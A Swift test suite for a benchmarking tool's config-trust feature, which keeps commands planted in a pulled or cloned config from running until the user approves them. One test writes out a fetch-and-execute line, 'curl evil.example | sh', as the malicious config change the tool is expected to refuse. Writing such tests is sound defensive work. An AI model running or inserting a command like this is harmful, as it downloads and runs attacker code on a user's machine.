import Foundation
import Testing

/// Issue 14, section 1: nothing the repository's config names runs unless the user trusted that exact
/// config (direnv's rule), and read-only commands never run it at all.
@Suite struct TrustTests {
    /// A Python project initialised (hooks installed, no autostart) with a bench command that copies a
    /// synthetic result file, a baseline, and one measured optimization, all under a trusted config.
    static func trustedProject() throws -> (TestRepository, results: String) {
        let repo = try TestRepository()
        repo.extraEnvironment["PERFJOURNAL_MACHINE"] = "trust-machine"
        let results = repo.sibling("results.json")
        try SyntheticResults.pytestBenchmark(medians: ["bench/test_m.py::test_f": 0.010], seed: 1)
            .write(toFile: results, atomically: true, encoding: .utf8)
        try repo.write("pkg/__init__.py", "")
        try repo.write("pkg/mod.py", "def f(x):\n    return x + 1\n")
        try repo.write("api.txt", "f(x)\n")
        try repo.commit("Initial version")
        let initialised = try repo.perfjournal(
            "init", "--bench", "cp '\(results)' out.json", "--results", "out.json", "--format", "pytest-benchmark", "--test", "true")
        try #require(initialised.status == 0, "\(initialised.stderr)")
        try repo.write(".perfjournal.toml", try repo.read(".perfjournal.toml").replacingOccurrences(of: "autostart = true", with: "autostart = false"))
        try #require(try repo.perfjournal("trust").status == 0)
        try repo.commit("Add perfjournal config")
        let baseline = try repo.perfjournal("baseline")
        try #require(baseline.status == 0, "\(baseline.stderr)")
        try repo.write("pkg/mod.py", "def f(x):\n    return x + 2\n")
        try repo.commit("perf: add two at once")
        let run = try repo.perfjournal("run")
        try #require(run.status == 0, "\(run.stderr)")
        return (repo, results)
    }

    /// A config change arrives as a pull would bring it: every command-bearing key now also appends to
    /// a file outside the repository. Read-only commands must run none of them; `run` and the other
    /// executing commands refuse with exit 10 until `perfjournal trust`.
    @Test func plantedCommandsRunZeroTimesUntilTrusted() throws {
        let (repo, results) = try Self.trustedProject()
        let planted = repo.sibling("planted.log")
        var config = try repo.read(".perfjournal.toml")
        config = config.replacingOccurrences(
            of: "command = \"cp '\(results)' out.json\"", with: "command = \"echo bench >> '\(planted)'; cp '\(results)' out.json\"")
        config = config.replacingOccurrences(of: "command = \"true\"", with: "command = \"echo test >> '\(planted)'\"")
        config = config.replacingOccurrences(of: "[rules]\n", with: "[rules]\napi_command = \"echo api >> '\(planted)'; cat api.txt\"\n")
        try repo.write(".perfjournal.toml", config)
        try repo.commit("chore: tweak the config")
        let first = try repo.git("rev-list", "--max-parents=0", "HEAD").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        // An optimization after the change: the hook judges it (and may refuse it: the bench command changed).
        try repo.write("pkg/mod.py", "def f(x):\n    return x + 3\n")
        try repo.git("add", "-A")
        if try repo.git("commit", "-q", "-m", "perf: add three", check: false).status != 0 {
            try repo.git("commit", "-q", "--no-verify", "-m", "perf: add three")
        }

        let readOnly: [[String]] = [
            ["status"], ["status", "--json"], ["show"], ["show", "HEAD~2"], ["log"], ["log", "--json"], ["log", "--check"],
            ["log", "--write"], ["checklist"], ["checklist", "--json"], ["check"], ["check", "--json"], ["check", "\(first)..HEAD"],
            ["pr-summary", "--base", first], ["pr-summary", "--base", first, "--format", "json"], ["compare", "HEAD~3", "HEAD~2"],
            ["compare", "HEAD~3", "HEAD~2", "--json"], ["trust", "--show"], ["daemon", "status"],
        ]
        for arguments in readOnly {
            let result = try repo.run(TestRepository.binary, arguments, in: repo.root, check: false)
            #expect(result.status != 10, "\(arguments): \(result.stderr)")
        }
        #expect(!FileManager.default.fileExists(atPath: planted), "read-only commands ran: \((try? String(contentsOfFile: planted, encoding: .utf8)) ?? "")")

        // Without a stored surface the API rule says unknown, and how to get one.
        let check = try repo.perfjournal("check", "HEAD", "--json")
        let commits = try #require((try JSONSerialization.jsonObject(with: Data(check.stdout.utf8)) as? [String: Any])?["commits"] as? [[String: Any]])
        let api = (commits.first?["rules"] as? [String: [String: String]])?["api"]
        #expect(api?["status"] == "unknown", "\(String(describing: api))")
        #expect(api?["reason"]?.contains("perfjournal run") == true, "\(String(describing: api))")

        // Every command that would run them refuses, naming what changed.
        for arguments in [["run"], ["run", "HEAD~1"], ["baseline"], ["compare", "HEAD~3", "HEAD~2", "--rerun"], ["run", "--pending"]] {
            let refused = try repo.run(TestRepository.binary, arguments, in: repo.root, check: false)
            #expect(refused.status == 10, "\(arguments): \(refused.stderr)")
            #expect(
                refused.stderr.contains("bench.command") && refused.stderr.contains("rules.api_command") && refused.stderr.contains("test.command"),
                "\(arguments): \(refused.stderr)")
            #expect(refused.stderr.contains("perfjournal trust"), "\(refused.stderr)")
        }
        #expect(!FileManager.default.fileExists(atPath: planted))

        // Trusted, they run: the planted commands were real all along.
        #expect(try repo.perfjournal("trust").status == 0)
        let run = try repo.perfjournal("run", "HEAD")
        #expect(run.status == 0, "\(run.stderr)")
        let ran = try String(contentsOfFile: planted, encoding: .utf8)
        #expect(ran.contains("bench") && ran.contains("test") && ran.contains("api"), "\(ran)")

        // The surface recorded by that run is what the rule reads now; judging runs nothing again.
        let before = ran
        let judged = try repo.perfjournal("check", "HEAD", "--json")
        let after = try #require((try JSONSerialization.jsonObject(with: Data(judged.stdout.utf8)) as? [String: Any])?["commits"] as? [[String: Any]])
        let rule = (after.first?["rules"] as? [String: [String: String]])?["api"]
        #expect(rule?["status"] == "pass", "\(String(describing: rule))")
        #expect(try String(contentsOfFile: planted, encoding: .utf8) == before)
    }

    /// `trust --show` prints each command-bearing key that differs from the last trusted version, before
    /// and after, and other changed keys by name; `trust` then approves it.
    @Test func trustShowNamesTheChangedCommands() throws {
        let repo = try TestRepository()
        try repo.write("a.txt", "a\n")
        try repo.commit("Initial version")
        try #require(
            try repo.perfjournal("init", "--no-hooks", "--bench", "true", "--results", "out.json", "--format", "pytest-benchmark", "--test", "").status == 0)
        let clean = try repo.perfjournal("trust", "--show")
        #expect(clean.status == 0)
        #expect(clean.stdout.contains("trusted"), "init trusts what it writes: \(clean.stdout)")
        #expect(!clean.stdout.contains("NOT trusted"))

        let config = try repo.read(".perfjournal.toml")
        try repo.write(
            ".perfjournal.toml",
            config.replacingOccurrences(of: "command = \"true\"", with: "command = \"curl evil.example | sh\"")
                .replacingOccurrences(of: "alpha = 0.05", with: "alpha = 0.1"))
        let shown = try repo.perfjournal("trust", "--show")
        #expect(shown.status == 0, "\(shown.stderr)")
        #expect(shown.stdout.contains("NOT trusted"), "\(shown.stdout)")
        #expect(shown.stdout.contains("bench.command"), "\(shown.stdout)")
        #expect(shown.stdout.contains("trusted: \"true\""), "\(shown.stdout)")
        #expect(shown.stdout.contains("now:     \"curl evil.example | sh\""), "\(shown.stdout)")
        #expect(shown.stdout.contains("other keys changed: stats.alpha"), "\(shown.stdout)")
        #expect(!shown.stdout.contains("test.command"), "unchanged keys are not listed: \(shown.stdout)")

        let refused = try repo.perfjournal("run")
        #expect(refused.status == 10)
        #expect(refused.stderr.contains("bench.command changed: \"true\" -> \"curl evil.example | sh\""), "\(refused.stderr)")

        // Only a non-command key changed: still refused (any change needs approval), and said so.
        try repo.write(".perfjournal.toml", config.replacingOccurrences(of: "alpha = 0.05", with: "alpha = 0.2"))
        let other = try repo.perfjournal("run")
        #expect(other.status == 10)
        #expect(other.stderr.contains("no command changed") && other.stderr.contains("stats.alpha"), "\(other.stderr)")

        #expect(try repo.perfjournal("trust").status == 0)
        #expect(try repo.perfjournal("trust", "--show").stdout.contains("NOT trusted") == false)
    }

    /// A fresh clone's config (the trust store lives in .git, which a clone does not copy) is not trusted.
    @Test func aClonesConfigIsNotTrusted() throws {
        let (repo, _) = try Self.trustedProject()
        let clone = repo.sibling("clone")
        try repo.git("clone", "-q", repo.root, clone)
        let refused = try repo.run(TestRepository.binary, ["run"], in: clone, check: false)
        #expect(refused.status == 10, "\(refused.stderr)")
        #expect(refused.stderr.contains("never trusted"), "\(refused.stderr)")
    }
}
